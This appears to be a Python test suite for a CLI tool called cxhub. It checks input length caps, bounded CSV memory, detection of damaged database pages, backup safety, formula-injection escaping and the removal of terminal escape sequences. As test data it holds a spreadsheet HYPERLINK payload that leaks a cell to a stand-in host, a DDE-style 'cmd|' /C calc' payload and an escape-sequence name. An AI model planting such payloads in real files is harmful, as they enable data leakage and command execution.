#!/usr/bin/env python3
"""Command-line scenarios of the hostile-input and damage faults (docs/reliability.md): length
caps on names and ids on every path, CSV fields and lines past the reader's caps refused with
bounded memory and a short message, `cxhub check` naming a damaged page, `backup` that checks
and never replaces another hub, commands that meet a damaged page pointing at check and backup,
a FILE.rejected.csv that cxhub did not write left alone, no formula injection in the rejected
rows nor in the review pack, and no terminal escape sequence printed by the text listings.
usage: cli_faults_test.py PATH/TO/cxhub"""
import json
import mmap
import os
import re
import sqlite3
import subprocess
import sys
import time
import zipfile
from xml.sax.saxutils import escape

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from clihub import BIN, Hub, check, run, sqlite_only  # noqa: E402

FORMULA = ("=", "+", "-", "@", "\t", "\r")


def demo_hub(accounts="60"):
    h = Hub()
    p = h.run("demo", "--accounts", accounts, "--seed", "7", "--as-of", "2026-10-31", "--quiet")
    assert p.returncode == 0, p.stderr
    return h


def sanitized():
    """Whether the binary is an AddressSanitizer build: its shadow memory and quarantine make
    peak RSS say nothing about the readers' buffers, so the memory bounds below are held by the
    release build's run of this file (scripts/test.sh runs both) and only reported here. GCC
    links the runtime as libasan.so, Clang into the binary: either way the binary names
    __asan_init."""
    with open(BIN, "rb") as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as m:
        return m.find(b"__asan_init") >= 0


# The peak RSS a bounded reader stays under, in MB (none under the sanitizers: see sanitized()).
RSS_BOUND = float("inf") if sanitized() else 64
if RSS_BOUND == float("inf"):
    print("note: AddressSanitizer build: peak RSS is reported, not bounded (the release run bounds it)")


def measured(h, *args):
    """Runs the binary under /usr/bin/time: (CompletedProcess, peak RSS in MB, seconds)."""
    env = dict(os.environ)
    env.pop("CXHUB_DB", None)
    env.pop("CXHUB_USER", None)
    start = time.time()
    p = subprocess.run(["/usr/bin/time", "-f", "RSS_KB=%M", BIN, "--db", h.url] + list(args),
                       capture_output=True, cwd=h.dir, env=env, timeout=300)
    took = time.time() - start
    m = re.search(rb"RSS_KB=(\d+)", p.stderr)
    rss = int(m.group(1)) / 1024 if m else 1e9
    p.stderr = re.sub(rb"(Command exited with non-zero status \d+\n)?RSS_KB=\d+\n?", b"", p.stderr)
    return p, rss, took


def col_name(i):
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def write_xlsx(path, sheets):
    """A workbook of inline strings written by hand (openpyxl cuts text at 32,767 characters)."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        ct = ['<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              '<Default Extension="xml" ContentType="application/xml"/>'
              '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>']
        wbs, rels = [], []
        for i, (name, rows) in enumerate(sheets, 1):
            ct.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
            wbs.append(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>')
            rels.append(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" Target="worksheets/sheet{i}.xml"/>')
            out = [f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}"><sheetData>']
            for r, row in enumerate(rows, 1):
                out.append(f'<row r="{r}">')
                for c, v in enumerate(row):
                    if v:
                        out.append(f'<c r="{col_name(c)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>')
                out.append('</row>')
            out.append('</sheetData></worksheet>')
            z.writestr(f"xl/worksheets/sheet{i}.xml", "".join(out))
        ct.append('</Types>')
        z.writestr("[Content_Types].xml", "".join(ct))
        z.writestr("_rels/.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets>' + "".join(wbs) + '</sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(rels) + '</Relationships>')


def accounts_workbook(path, rows):
    write_xlsx(path, [("Accounts", [["Account ID", "Company Name", "Industry", "ERP Customer ID", "Account Owner"]] + rows),
                      ("Contacts", [["Contact ID", "Full Name", "Job Title", "Associated Account ID"]]),
                      ("Interactions", [["Interaction ID", "Date", "Contact ID", "Channel", "Notes", "Next Action", "Logged By"]])])


def test_names_and_ids_have_caps_on_every_path():
    h = Hub()
    check(h.run("init").returncode == 0, "init")
    p = h.run("account", "add", "--name", "Okafor " + "x" * 1000)
    check(p.returncode == 2 and "at most 300" in p.stderr and len(p.stderr) < 2000,
          "account add with a 1,007-character name is refused naming the cap, in a short message",
          f"rc={p.returncode} {p.stderr[:300]!r}")
    check(h.count("accounts") == 0, "nothing was written")
    wb = os.path.join(h.dir, "long.xlsx")
    accounts_workbook(wb, [["A-900001", "Long " + "y" * 995, "", "", ""]])
    p = h.run("import-workbook", wb)
    check(p.returncode == 2 and "Sheet 'Accounts', row 2" in p.stderr and "name: is 1,000 characters long" in p.stderr
          and "at most 300" in p.stderr,
          "a workbook Company Name of 1,000 characters is refused naming sheet, row, field and cap",
          f"rc={p.returncode} {p.stderr[:400]!r}")
    accounts_workbook(wb, [["A-" + "9" * 200, "Short Name Ltd", "", "", ""]])
    p = h.run("import-workbook", wb)
    check(p.returncode == 2 and "row 2" in p.stderr and "id: is 202 characters long" in p.stderr
          and "at most 100" in p.stderr,
          "a workbook Account ID of 202 characters is refused naming the id cap", f"rc={p.returncode} {p.stderr[:400]!r}")
    accounts_workbook(wb, [["A-900002", "Q" * 1000000, "", "", ""]])
    start = time.time()
    p = h.run("import-workbook", wb)
    took = time.time() - start
    check(p.returncode == 2 and "Company Name" in p.stderr and took < 10 and len(p.stderr) < 4000,
          f"a 1,000,000-character Company Name in a workbook is refused in {took:.2f}s, message of {len(p.stderr)} bytes",
          p.stderr[:300])
    csv = os.path.join(h.dir, "customers.csv")
    with open(csv, "w") as f:
        f.write("ERP Customer ID,Customer Name,Last Modified\n")
        f.write("E1,Fine Customer Ltd,2026-01-01\n")
        f.write("E2," + "Z" * 1000 + ",2026-01-01\n")
        f.write("E" + "3" * 150 + ",Long Id Ltd,2026-01-01\n")
        f.write("E4," + "W" * 1000000 + ",2026-01-01\n")
    start = time.time()
    p = h.run("erp-sync", "customers", csv)
    took = time.time() - start
    check(p.returncode == 2 and "line 3" in p.stderr and "at most 300" in p.stderr and "line 4" in p.stderr
          and "at most 100" in p.stderr and "line 5" in p.stderr and took < 10 and len(p.stderr) < 4000,
          f"an ERP export with a 1,000-character name, a 151-character id and a 1,000,000-character name "
          f"is refused naming each line ({took:.2f}s)", p.stderr[:600])
    check(h.count("accounts") == 0, "and nothing was written")


def test_csv_caps_bound_memory_and_messages():
    h = Hub()
    check(h.run("init").returncode == 0, "init")
    field = os.path.join(h.dir, "field.csv")
    with open(field, "w") as f:
        f.write("ERP Customer ID,Customer Name,Last Modified\nE1,")
        f.write("Z" * 50_000_000)
        f.write(",2026-01-01\n")
    p, rss, took = measured(h, "erp-sync", "customers", field)
    err = p.stderr.decode(errors="replace")
    check(p.returncode == 2 and "line 2" in err and "Customer Name" in err and rss < RSS_BOUND and len(err) < 2000,
          f"a 50 MB CSV field is refused naming line and column, peak RSS {rss:.0f} MB (< {RSS_BOUND}), {took:.2f}s",
          f"rc={p.returncode} {err[:300]!r}")
    quoted = os.path.join(h.dir, "quoted.csv")
    with open(quoted, "w") as f:
        f.write('ERP Customer ID,Customer Name,Last Modified\nE1,"')
        f.write("Q\n" * 25_000_000)
        f.write('",2026-01-01\n')
    p, rss, took = measured(h, "erp-sync", "customers", quoted)
    err = p.stderr.decode(errors="replace")
    check(p.returncode == 2 and "line 2" in err and rss < RSS_BOUND and len(err) < 2000,
          f"a 50 MB quoted field of 25 million lines is refused, peak RSS {rss:.0f} MB (< {RSS_BOUND}), {took:.2f}s",
          f"rc={p.returncode} {err[:300]!r}")
    line = os.path.join(h.dir, "line.csv")
    with open(line, "w") as f:
        f.write("ERP Customer ID;")
        f.write("Y" * 50_000_000)
    p, rss, took = measured(h, "erp-sync", "customers", line)
    err = p.stderr.decode(errors="replace")
    check(p.returncode == 2 and len(err) < 1000 and rss < RSS_BOUND,
          f"a 50 MB line without a line break is refused in a {len(err)}-byte message, peak RSS {rss:.0f} MB (< {RSS_BOUND})",
          f"rc={p.returncode} {err[:300]!r}")


def page_size_and_root(db, name):
    con = sqlite3.connect(db)
    try:
        size = con.execute("PRAGMA page_size").fetchone()[0]
        root = con.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (name,)).fetchone()[0]
        return size, root
    finally:
        con.close()


def damage(db, page, size):
    """Writes garbage over a page (1-based), past its first bytes so the b-tree header breaks."""
    with open(db, "r+b") as f:
        f.seek((page - 1) * size)
        f.write(bytes([0x0D, 0xFF, 0xFF, 0xFF, 0xFF]) + b"\xA5" * (size - 5))


@sqlite_only("writes garbage over pages of the SQLite file")
def test_check_names_damage_and_commands_point_to_it():
    h = demo_hub()
    p = h.run("check")
    check(p.returncode == 0 and "OK" in p.stdout, "check of a sound hub: exit 0 and an OK summary",
          f"rc={p.returncode} {p.stdout[-300:]} {p.stderr[:300]}")
    j = h.run("check", "--json")
    ok = j.returncode == 0 and json.loads(j.stdout or "{}").get("ok") is True
    check(ok, "check --json says ok", j.stderr[:300])
    # An index page: the name-key index of the accounts.
    size, root = page_size_and_root(h.db, "accounts_name_key")
    idx = Hub()
    import shutil
    shutil.copy(h.db, idx.db)
    damage(idx.db, root, size)
    p = idx.run("check")
    check(p.returncode == 1 and "DAMAGED" in p.stdout and "accounts_name_key" in (p.stdout + p.stderr),
          "check names the damaged index and exits 1", f"rc={p.returncode} {p.stdout[:600]} {p.stderr[:300]}")
    pj = idx.run("check", "--json")
    doc = json.loads(pj.stdout) if pj.stdout.strip().startswith("{") else {}
    check(pj.returncode == 1 and doc.get("ok") is False and any(not c["ok"] for c in doc.get("checks", [])),
          "check --json: ok false and the failing check listed", pj.stdout[:300])
    # A data page: the accounts table's root, and that of the index search reads the accounts'
    # names from (accounts_match: a search reads no table row of an account).
    for name in ("accounts", "accounts_match"):
        size, root = page_size_and_root(h.db, name)
        damage(h.db, root, size)
    p = h.run("check")
    check(p.returncode == 1 and "DAMAGED" in p.stdout, "check names the damaged table page and exits 1",
          f"rc={p.returncode} {p.stdout[:600]}")
    out = os.path.join(h.dir, "copy.db")
    for args in (["search", "okafor"], ["account", "show", "A-000001"],
                 ["interaction", "add", "--contact", "C-000001", "--channel", "phone", "--notes", "x"],
                 ["export-workbook", os.path.join(h.dir, "x.xlsx")], ["backup", out]):
        p = h.run(*args)
        check(p.returncode == 1 and "cxhub check" in p.stderr and "backup" in p.stderr,
              f"{' '.join(args[:2])} on the damaged hub: exit 1 pointing to check and backup",
              f"rc={p.returncode} {p.stderr[:300]!r}")
    left = [n for n in os.listdir(h.dir) if n.startswith(".copy.db") or n == "copy.db" or n.startswith(".x.xlsx")]
    check(not left, "the failed backup and export leave no file (not even an empty one)", str(left))


@sqlite_only("drops SQLite's audit trigger and cuts SQLite's name_postings table by hand")
def test_check_names_a_cut_audit_log_and_a_stale_name_index():
    h = demo_hub("20")
    for name in ("Tamper One Ltd", "Tamper Two Plc", "Tamper Three Co"):
        h.run("account", "add", "--name", name, "--division", "Motors")
    check(h.run("check").returncode == 0, "the demo hub checks OK")
    con = sqlite3.connect(h.db)
    con.execute("DROP TRIGGER audit_no_delete")
    n = con.execute("SELECT max(seq) FROM audit").fetchone()[0]
    con.execute("DELETE FROM audit WHERE seq IN (2, ?)", (n,))
    word = con.execute("SELECT word FROM name_postings WHERE kind = 0 ORDER BY word LIMIT 1").fetchone()[0]
    con.execute("DELETE FROM name_postings WHERE kind = 0 AND word = ?", (word,))
    con.commit()
    con.close()
    p = h.run("check", "--json")
    doc = json.loads(p.stdout) if p.stdout.strip().startswith("{") else {"checks": []}
    by = {c["check"]: c for c in doc["checks"]}
    audit = " ".join(by.get("audit log", {}).get("problems", []))
    names = " ".join(by.get("name index of accounts", {}).get("problems", []))
    check(p.returncode == 1 and "audit_no_delete" in audit and "missing between" in audit and "the last 1" in audit,
          "check names the dropped guard, the entry cut from the middle and the one cut from the end", audit)
    check(f"missing under the word '{word}'" in names, "check names the word missing from the name index", names[:300])


@sqlite_only("backup writes an SQLite file; a PostgreSQL hub refuses it (cli_test, cli_pg_test)")
def test_backup_never_replaces_another_hub():
    h = demo_hub("20")
    other = demo_hub("10")
    before = open(other.db, "rb").read()
    p = h.run("backup", other.db)
    check(p.returncode == 2 and "--force" in p.stderr and open(other.db, "rb").read() == before,
          "backup onto another hub is refused (exit 2), that hub unchanged", f"rc={p.returncode} {p.stderr[:300]}")
    copy = os.path.join(h.dir, "copy.db")
    check(h.run("backup", copy).returncode == 0, "backup to a new file")
    p = h.run("backup", copy)
    check(p.returncode == 0, "backup replaces an earlier copy of the same hub", p.stderr[:300])
    p = h.run("backup", other.db, "--force")
    con = sqlite3.connect(other.db)
    n = con.execute("SELECT count(*) FROM accounts").fetchone()[0]
    con.close()
    check(p.returncode == 0 and n == h.count("accounts"), "--force replaces the other hub with the copy", p.stderr[:300])


def test_rejected_file_only_ours_and_escaped():
    h = Hub()
    check(h.run("init").returncode == 0, "init")
    csv = os.path.join(h.dir, "c.csv")
    rejected = csv + ".rejected.csv"
    with open(csv, "w") as f:
        f.write("ERP Customer ID,Customer Name,Email,Last Modified\nE1,Good Ltd,a@good.ng,2026-01-01\n")
    with open(rejected, "w") as f:
        f.write("my own notes, not cxhub's\n")
    p = h.run("erp-sync", "customers", csv, "--json")
    kept = os.path.exists(rejected) and open(rejected).read() == "my own notes, not cxhub's\n"
    check(p.returncode == 0 and kept, "a clean sync leaves a FILE.rejected.csv that cxhub did not write",
          f"rc={p.returncode} {p.stdout[-300:]} {p.stderr[:200]}")
    with open(csv, "w") as f:
        f.write("ERP Customer ID,Customer Name,Email,Last Modified\n"
                "E2,Fine Two Ltd,b@fine.ng,2026-01-02\n"
                'E3,"=HYPERLINK(""http://x.example/?""&A1,""Click"")",not-an-email,2026-01-02\n'
                "E4,@SUM(1+1)*cmd|' /C calc'!A0,also-bad,2026-01-02\n")
    p = h.run("erp-sync", "customers", csv, "--partial")
    kept = open(rejected).read() == "my own notes, not cxhub's\n"
    check(p.returncode == 2 and kept and h.count("accounts") == 1,
          "--partial with rejected rows refuses to replace someone else's FILE.rejected.csv (exit 2, nothing written)",
          f"rc={p.returncode} {p.stderr[:300]}")
    p = h.run("erp-sync", "customers", csv, "--partial", "--force")
    check(p.returncode == 0 and h.count("accounts") == 2, "--force replaces it", p.stderr[:300])
    text = open(rejected, encoding="utf-8-sig").read()
    cells = [c for line in text.splitlines() for c in re.split(r',(?=(?:[^"]*"[^"]*")*[^"]*$)', line)]
    live = [c for c in cells if c.strip('"').startswith(("=", "+", "@"))]
    check("'=HYPERLINK" in text and "'@SUM" in text and not live,
          "the rejected rows' formula-looking cells are written as text (a leading apostrophe)", text[:400])
    # The rejected file, fixed, feeds again: the escaped name reads back as it was.
    with open(rejected, "w", encoding="utf-8-sig") as f:
        f.write(text.replace("not-an-email", "ok@three.ng").replace("also-bad", "ok@four.ng"))
    p = h.run("erp-sync", "customers", rejected, "--json")
    names = [r[0] for r in h.sql("SELECT name FROM accounts WHERE erp_customer_id IN ('E3','E4') "
                                 "ORDER BY erp_customer_id")]
    check(p.returncode == 0 and names == ['=HYPERLINK("http://x.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"],
          "the fixed rejected file syncs, the names exactly as the ERP wrote them", f"{names} {p.stderr[:200]}")
    # Its own rejected file a later clean run removes.
    with open(csv, "w") as f:
        f.write("ERP Customer ID,Customer Name,Email,Last Modified\nE5,Bad Five,nope,2026-01-03\n")
    h.run("erp-sync", "customers", csv, "--partial", "--force")
    with open(csv, "w") as f:
        f.write("ERP Customer ID,Customer Name,Email,Last Modified\nE5,Good Five,ok@five.ng,2026-01-03\n")
    p = h.run("erp-sync", "customers", csv, "--json")
    check(p.returncode == 0 and not os.path.exists(rejected), "a clean run removes cxhub's own earlier rejected file",
          p.stderr[:300])


def test_review_pack_xlsx_keeps_formula_text_as_text():
    import openpyxl
    h = demo_hub()
    h.run("account", "add", "--name", "=1+1 Trading", "--division", "Motors")
    out = os.path.join(h.dir, "pack.xlsx")
    p = h.run("review", "--week", "2026-W43", "--format", "xlsx", "--out", out)
    check(p.returncode == 0, "review --format xlsx", p.stderr[:300])
    wb = openpyxl.load_workbook(out)
    bad = []
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(FORMULA):
                    seen += 1
                    if c.number_format != "@":
                        bad.append(f"{ws.title}!{c.coordinate}={c.value[:20]!r}")
    check(seen > 0 and not bad, f"all {seen} formula-looking cells of the pack have the Text format",
          f"{len(bad)} without: {bad[:5]}")


def test_text_listings_strip_escape_sequences():
    h = Hub()
    check(h.run("init").returncode == 0, "init")
    evil = "Evil\x1b]0;pwned\x07\x1b[2J\x1b[31m Corp\x9b6n\x08\x08"
    p = h.run("account", "add", "--name", evil, "--division", "Motors", "--json")
    check(p.returncode == 0, "an account whose name holds escape sequences is stored", p.stderr[:200])
    for args in (["search", "Evil"], ["account", "show", "A-000001"], ["account", "list"], ["audit"],
                 ["duplicates"]):
        p = h.run(*args)
        raw = p.stdout + p.stderr
        check(p.returncode == 0 and "\x1b" not in raw and "\x07" not in raw and "\x9b" not in raw and "\x08" not in raw,
              f"{' '.join(args)} prints no control character or escape sequence",
              f"rc={p.returncode} {raw[:200]!r}")
    p = h.run("account", "show", "A-000001")
    check("Evil" in p.stdout and "Corp" in p.stdout, "the name itself is still shown", p.stdout[:200])
    p = h.run("account", "show", "A-000001", "--json")
    check(p.returncode == 0 and json.loads(p.stdout).get("name", json.loads(p.stdout).get("account", {}).get("name")) == evil,
          "--json keeps the stored value exactly (escaped by JSON)", p.stdout[:200])


if __name__ == "__main__":
    run([test_names_and_ids_have_caps_on_every_path, test_csv_caps_bound_memory_and_messages,
         test_check_names_damage_and_commands_point_to_it,
         test_check_names_a_cut_audit_log_and_a_stale_name_index, test_backup_never_replaces_another_hub,
         test_rejected_file_only_ours_and_escaped, test_review_pack_xlsx_keeps_formula_text_as_text,
         test_text_listings_strip_escape_sequences])
